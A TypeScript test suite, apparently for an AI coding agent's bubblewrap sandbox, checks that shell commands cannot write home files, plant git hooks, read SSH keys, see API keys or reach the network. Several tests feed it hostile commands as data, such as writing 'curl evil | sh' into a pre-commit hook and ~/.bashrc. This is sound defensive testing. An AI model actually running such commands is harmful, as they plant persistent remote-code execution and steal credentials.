import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { setUpSandbox } from "../../src/sandbox/setup.ts";
import { runCommand } from "../../src/tools/bash.ts";
import { availability, contextIn, makeWorld, runSandboxed, sandboxFor, skipReason } from "./helpers.ts";

describe.skipIf(!availability.available)(`commands in the sandbox (real bubblewrap)${skipReason}`, () => {
  it("can write the project and TMPDIR, and /tmp keeps files between commands", async () => {
    const world = await makeWorld();
    const sandbox = (await sandboxFor(world))!;
    const run = (command: string) => runCommand(contextIn(world.project), { command, sandbox });
    const first = await run('echo made > inside.txt && echo kept > "$TMPDIR/t" && echo "$TMPDIR"');
    expect(first.output).toBe("/tmp\nExit code: 0");
    expect(readFileSync(path.join(world.project, "inside.txt"), "utf8")).toBe("made\n");
    const second = await run("cat /tmp/t");
    expect(second.output).toBe("kept\nExit code: 0");
  });

  it("cannot write outside the project: the home folder stays untouched", async () => {
    const world = await makeWorld();
    const result = await runSandboxed(world, `echo x > "$HOME/pwned"; touch ~/.bashrc`);
    // A home under the host's /tmp (no /var/tmp here) would be inside the private /tmp instead.
    if (!world.userHome.startsWith("/tmp/")) expect(result.output).toContain("Read-only file system");
    expect(result.isError).toBe(true);
    expect(result.output).toContain("Ran in the sandbox");
    expect(existsSync(path.join(world.userHome, "pwned"))).toBe(false);
    expect(existsSync(path.join(world.userHome, ".bashrc"))).toBe(false);
  });

  it("sees a private /tmp: a write beside the project (in the host's /tmp) never reaches the host", async () => {
    const world = await makeWorld();
    const besideProject = path.join(path.dirname(world.project), "beside.txt");
    const result = await runSandboxed(world, `echo y > ${besideProject} && cat ${besideProject}`);
    expect(result.output).toBe("y\nExit code: 0");
    expect(existsSync(besideProject)).toBe(false);
  });

  it("cannot plant a git hook, change git config, or create tacit settings or memories", async () => {
    const world = await makeWorld();
    const result = await runSandboxed(
      world,
      [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/hooks",
        "mkdir -p .tacit && echo '{}' > .tacit/settings.local.json",
        `echo note > ${world.tacitHome}/memory/planted.md`,
        "echo after",
      ].join("; "),
    );
    expect(result.output).toContain("after");
    expect(existsSync(path.join(world.project, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(path.join(world.project, ".git", "config"), "utf8")).not.toContain("hooksPath");
    expect(existsSync(path.join(world.project, ".tacit", "settings.local.json"))).toBe(false);
    expect(readdirSync(path.join(world.tacitHome, "memory"))).toEqual([]);
  });

  it("run in the home folder itself, the home is writable but its shell start-up files are not", async () => {
    const world = await makeWorld();
    writeFileSync(path.join(world.userHome, ".bashrc"), "# mine\n");
    const sandbox = (
      await setUpSandbox({
        settings: {},
        projectRoot: world.userHome,
        tacitHome: world.tacitHome,
        env: world.env,
      })
    ).sandbox!;
    const result = await runCommand(contextIn(world.userHome), {
      command: "echo 'curl evil | sh' >> ~/.bashrc; echo note > ~/notes.txt; cat ~/notes.txt",
      sandbox,
    });
    expect(result.output).toContain("Read-only file system");
    expect(result.output).toContain("note");
    expect(readFileSync(path.join(world.userHome, ".bashrc"), "utf8")).toBe("# mine\n");
  });

  it("git reads work but a commit does not: the whole .git is read-only", async () => {
    const world = await makeWorld();
    const result = await runSandboxed(
      world,
      "echo a > a.txt && git status --porcelain && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm first",
    );
    expect(result.output).toContain("?? a.txt");
    expect(result.output).toMatch(/index\.lock.*Read-only file system/);
    expect(execFileSync("git", ["status", "--porcelain"], { cwd: world.project, encoding: "utf8" })).toBe(
      "?? a.txt\n",
    );
  });

  it("hides credential folders and the paths in sandbox.hiddenPaths", async () => {
    const world = await makeWorld();
    writeFileSync(path.join(world.userHome, ".ssh", "id_ed25519"), "PRIVATE KEY\n");
    writeFileSync(path.join(world.userHome, "notes.txt"), "my own secret\n");
    const result = await runSandboxed(world, "cat ~/.ssh/id_ed25519; cat ~/notes.txt; ls -A ~/.ssh | wc -l", {
      hiddenPaths: ["~/notes.txt"],
    });
    expect(result.output).not.toContain("PRIVATE KEY");
    expect(result.output).not.toContain("my own secret");
    expect(result.output).toContain("0\nExit code: 0");
  });

  it("takes tacit's model keys out of the environment, built-in and custom, and leaves the rest", async () => {
    const world = await makeWorld();
    vi.stubEnv("ANTHROPIC_API_KEY", "sk-ant-from-the-user");
    vi.stubEnv("MYBOX_KEY", "mybox-secret");
    vi.stubEnv("PROJECT_SETTING", "kept");
    try {
      const { sandbox } = await setUpSandbox({
        settings: { providers: { mybox: { baseURL: "http://127.0.0.1:9/v1", apiKeyEnv: "MYBOX_KEY" } } },
        projectRoot: world.project,
        tacitHome: world.tacitHome,
        env: world.env,
      });
      const script = 'echo "[$ANTHROPIC_API_KEY][$MYBOX_KEY][$PROJECT_SETTING]"';
      const inside = await runCommand(contextIn(world.project), { command: script, sandbox: sandbox! });
      expect(inside.output).toBe("[][][kept]\nExit code: 0");
      // The same command outside the sandbox sees them: the check above can fail.
      const outside = await runCommand(contextIn(world.project), { command: script });
      expect(outside.output).toBe("[sk-ant-from-the-user][mybox-secret][kept]\nExit code: 0");
    } finally {
      vi.unstubAllEnvs();
    }
  });

  it("read-only mode: the project cannot be written, /tmp can", async () => {
    const world = await makeWorld();
    const result = await runSandboxed(world, "echo x > /tmp/ok && echo y > inside.txt", {
      mode: "read-only",
    });
    expect(result.output).toContain("Read-only file system");
    expect(existsSync(path.join(world.project, "inside.txt"))).toBe(false);
  });

  it("off mode: no sandbox, so the command writes where it likes", async () => {
    const world = await makeWorld();
    expect(await sandboxFor(world, { mode: "off" })).toBeUndefined();
    const target = path.join(world.userHome, "written-unsandboxed");
    const result = await runCommand(contextIn(world.project), { command: `touch ${target}` });
    expect(result.output).toBe("(no output)\nExit code: 0");
    expect(existsSync(target)).toBe(true);
  });

  it("writablePaths adds a folder outside the project", async () => {
    const world = await makeWorld();
    const extra = path.join(world.userHome, "cache");
    mkdirSync(extra);
    const result = await runSandboxed(world, `echo c > ${extra}/c`, { writablePaths: ["~/cache"] });
    expect(result.output).toBe("(no output)\nExit code: 0");
    expect(readFileSync(path.join(extra, "c"), "utf8")).toBe("c\n");
  });

  describe("the network", () => {
    let server: Server;
    let port = 0;
    beforeAll(async () => {
      server = createServer((socket) => socket.end("hello from the host\n"));
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    const connect = () => `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`;

    it("is off: a server on the host's 127.0.0.1 cannot be reached", async () => {
      const world = await makeWorld();
      const result = await runSandboxed(world, connect());
      expect(result.output).not.toContain("hello from the host");
      expect(result.output).toMatch(/Connection refused/);
    });

    it("still has its own loopback", async () => {
      const world = await makeWorld();
      const script = `node -e 'const s=require("net").createServer(c=>c.end("own\\n")).listen(0,"127.0.0.1",()=>require("net").connect(s.address().port,"127.0.0.1").on("data",d=>{process.stdout.write(d);process.exit(0)}))'`;
      const result = await runSandboxed(world, script);
      expect(result.output).toBe("own\nExit code: 0");
    });

    it("is on with sandbox.network: true", async () => {
      const world = await makeWorld();
      const result = await runSandboxed(world, connect(), { network: true });
      expect(result.output).toBe("hello from the host\nExit code: 0");
    });
  });

  it("a timeout kills the whole sandbox, background jobs included", async () => {
    const world = await makeWorld();
    const sandbox = (await sandboxFor(world))!;
    const marker = "987.654321";
    const result = await runCommand(contextIn(world.project), {
      command: `sleep ${marker} & sleep ${marker}`,
      sandbox,
      timeoutMs: 500,
      killGraceMs: 200,
    });
    expect(result.output).toContain("Timed out");
    const survivors = () =>
      execFileSync("ps", ["-eo", "args"], { encoding: "utf8" })
        .split("\n")
        .filter((line) => line.includes(marker) && !line.includes("bwrap"));
    expect(survivors()).toEqual([]);
  });
});
